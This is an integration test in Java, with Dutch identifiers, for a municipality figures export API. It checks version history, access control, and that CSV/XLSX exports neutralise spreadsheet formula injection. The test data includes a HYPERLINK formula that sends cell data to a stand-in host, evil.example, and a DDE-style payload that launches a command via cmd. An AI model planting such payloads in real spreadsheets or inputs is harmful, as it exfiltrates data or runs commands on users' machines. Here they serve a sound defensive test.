package nl.woonregie.toezicht.cijfers;

import static nl.woonregie.support.Api.BEHEERDER;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import nl.woonregie.support.Accounts;
import nl.woonregie.support.Api;
import nl.woonregie.support.IntegratieTest;
import nl.woonregie.support.TestKlok;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.web.servlet.MockMvc;

/**
 * The export of a municipality's figures with their history (CSV, XLSX): every version, and formula injection
 * neutralised (a reason like {@code =HYPERLINK(...)} is written as text with a leading '). Leeuwarden (PV21), 2093.
 */
@IntegratieTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CijfersExportTest {

    static final String FORMULE = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")";

    @Autowired
    MockMvc mvc;

    @Autowired
    TestKlok klok;

    @Autowired
    org.springframework.jdbc.core.simple.JdbcClient jdbc;

    Api api;
    String leeuwarden;
    String denHaag;
    String thZh;
    BeginstandenOpzij opzij;

    @BeforeAll
    void cijfers() {
        opzij = new BeginstandenOpzij(jdbc, "GM0080");
        opzij.zetOpzij();
        api = new Api(mvc);
        Accounts accounts = new Accounts(mvc);
        leeuwarden = accounts.gemeente("GM0080");
        denHaag = accounts.gemeente("GM0518");
        thZh = accounts.toezichthouder("PV28");
        String pad = "/api/v1/taakstellingen/import";
        api.als(BEHEERDER).postCsv(pad, "gemeente;periode;taakstelling\nGM0080;2093-I;40\n").json(201);
        api.als(BEHEERDER).doe(post(pad).param("reden", FORMULE).contentType("text/csv")
                .content("gemeente;periode;taakstelling\nGM0080;2093-I;44\n")).json(201);
        api.als(BEHEERDER).postCsv("/api/v1/beginstanden/import",
                "gemeente;periode;saldoIn;trede\nGM0080;2093-I;-5;1\n").json(201);
        api.als(BEHEERDER).postCsv("/api/v1/coa-standen/import",
                "gemeente;periode;datum;gehuisvest;koppelingen;omkoppelingen;stapelgemeente\n"
                        + "GM0080;2093-I;2093-03-31;12;20;0;ja\n").json(201);
        klok.zet(LocalDate.of(2093, 7, 10));
        try {
            api.als(BEHEERDER).post("/api/v1/gemeenten/GM0080/coa-definitief",
                    "{\"periode\":\"2093-I\",\"gehuisvestCoaDefinitief\":30,\"reden\":\"@SUM(1+1)*cmd|' /C calc'!A0\"}")
                    .json(201);
        } finally {
            klok.herstel();
        }
    }

    @AfterAll
    void opruimen() {
        opzij.zetTerug();
    }

    @Test
    void csv_bevat_elke_versie_en_neutraliseert_formules() {
        Api.Antwoord r = api.als(leeuwarden).get("/api/v1/gemeenten/GM0080/cijfers.csv").status(200);
        assertThat(r.contentType()).startsWith("text/csv");
        assertThat(r.header("Content-Disposition")).contains("attachment").contains("cijfers-GM0080.csv");
        byte[] bytes = r.bytes();
        assertThat(bytes[0]).isEqualTo((byte) 0xEF);
        List<String> regels = new String(bytes, StandardCharsets.UTF_8).substring(1).lines().toList();
        assertThat(regels.get(0)).startsWith("soort;periode;datum;taakstelling;");
        List<String> taak = regels.stream().filter(l -> l.startsWith("taakstelling;2093-I;")).toList();
        assertThat(taak).hasSize(2);
        // the new version first, with its reason neutralised (and quoted, because it contains quotes)
        assertThat(taak.get(0)).startsWith("taakstelling;2093-I;;44;")
                .contains(";\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Klik hier\"\")\";");
        assertThat(taak.get(1)).startsWith("taakstelling;2093-I;;40;");
        // a negative number is a number, not text that could be a formula
        assertThat(regels).anyMatch(l -> l.startsWith("beginstand;2093-I;;;;-5;1;"));
        assertThat(regels).anyMatch(l -> l.startsWith("coa-stand;2093-I;2093-03-31;;;;;12;20;0;ja;"));
        assertThat(regels).anyMatch(l -> l.startsWith("coa-definitief;2093-I;") && l.contains(";'@SUM(1+1)*cmd|"));
        assertThat(regels).noneMatch(l -> l.contains(";=") || l.contains(";@") || l.contains(";\"="));
    }

    @Test
    void xlsx_bevat_elke_versie_en_neutraliseert_formules() throws Exception {
        Api.Antwoord r = api.als(leeuwarden).get("/api/v1/gemeenten/GM0080/cijfers.xlsx").status(200);
        assertThat(r.contentType()).isEqualTo(Api.XLSX);
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(r.bytes()))) {
            Sheet sheet = wb.getSheetAt(0);
            List<String> teksten = new ArrayList<>();
            Row saldo = null;
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING) {
                        teksten.add(cell.getStringCellValue());
                    }
                }
                if (row.getCell(0) != null && row.getCell(0).getStringCellValue().equals("beginstand")
                        && row.getCell(1).getStringCellValue().equals("2093-I")) {
                    saldo = row;
                }
            }
            assertThat(teksten).contains("'" + FORMULE).doesNotContain(FORMULE);
            assertThat(teksten).anyMatch(t -> t.startsWith("'@SUM"));
            assertThat(teksten).noneMatch(t -> t.startsWith("=") || t.startsWith("@") || t.startsWith("+"));
            assertThat(saldo).isNotNull();
            assertThat(saldo.getCell(5).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(saldo.getCell(5).getNumericCellValue()).isEqualTo(-5.0);
        }
    }

    @Test
    void de_cijfers_in_json_met_alle_soorten() {
        var cijfers = api.als(leeuwarden).get("/api/v1/gemeenten/GM0080/cijfers").json();
        assertThat(cijfers.get("gemeente").asString()).isEqualTo("GM0080");
        assertThat(cijfers.get("naam").asString()).isEqualTo("Leeuwarden");
        assertThat(TaakstellingImportTest.reeks(cijfers, "2093-I").get("versies")).hasSize(2);
        assertThat(cijfers.at("/beginstand/versies/0/saldoIn").asInt()).isEqualTo(-5);
        assertThat(cijfers.get("coaStanden")).isNotEmpty();
        assertThat(cijfers.get("definitief")).isNotEmpty();
        assertThat(cijfers.get("huurcontracten").isArray()).isTrue();
    }

    @Test
    void alleen_wie_de_cijfers_mag_lezen_krijgt_ze() {
        api.als(denHaag).get("/api/v1/gemeenten/GM0080/cijfers").probleem(403);
        api.als(denHaag).get("/api/v1/gemeenten/GM0080/cijfers.csv").probleem(403);
        api.als(thZh).get("/api/v1/gemeenten/GM0080/cijfers.xlsx").probleem(403);
        api.als(denHaag).get("/api/v1/gemeenten/GM0599/cijfers").probleem(403);
        api.als(thZh).get("/api/v1/gemeenten/GM0599/cijfers").status(200);
        api.als(denHaag).get("/api/v1/gemeenten/GM0518/cijfers.csv").status(200);
        api.als(BEHEERDER).get("/api/v1/gemeenten/GM9999/cijfers").probleem(404);
    }
}
